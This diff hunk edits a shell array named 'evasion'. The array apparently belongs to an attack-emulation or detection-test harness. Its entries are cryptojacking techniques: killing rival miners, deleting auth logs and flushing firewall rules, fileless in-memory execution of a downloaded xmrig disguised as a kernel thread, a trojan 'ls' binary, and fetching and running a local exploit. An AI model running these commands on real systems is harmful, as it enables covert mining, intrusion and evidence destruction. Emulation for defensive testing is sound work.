@@ -83,7 +83,7 @@ evasion=(
 	'pkill -9 -f kinsing; pkill -9 xmr; ps aux | grep -v grep | grep -e kdev -e mine | awk "{print \$2}" | xargs -r kill -9; crontab -r'
 	'systemctl stop rsyslog; rm -f /var/log/auth.log.1; iptables -F; systemctl start rsyslog'
 	'chattr -i /etc/ld.so.preload 2>/dev/null; sysctl -w vm.nr_hugepages=0; ulimit -n 1000; nproc'
-	'python3 -c "import os,urllib.request as u;f=os.memfd_create(\"$T\");os.write(f,u.urlopen(\"http://127.0.0.1:$W/xmrig\").read());os.execve(\"/proc/self/fd/%d\"%f,[\"[kthreadd]\"],{})"'
+	'python3 -c "import os,urllib.request as u;f=os.memfd_create(\"\");os.write(f,u.urlopen(\"http://127.0.0.1:$W/xmrig\").read());os.execve(\"/proc/self/fd/%d\"%f,[\"[kthreadd]\"],{})"'
 	'mkdir -p /tmp/.$T; curl -s http://127.0.0.1:$W/ls.c -o /tmp/.$T/ls.c; gcc -o /tmp/.$T/ls /tmp/.$T/ls.c; PATH=/tmp/.$T:$PATH ls -la'
 	'mkdir -p /tmp/.$T; curl -s http://127.0.0.1:$W/e.c -o /tmp/.$T/e.c; cc -O1 /tmp/.$T/e.c -o /tmp/.$T/cve && /tmp/.$T/cve'
 	'python3 -c "import pty,sys; pty.spawn([\"/bin/bash\",\"-c\",\"id; tty; sudo -n id\"])"'
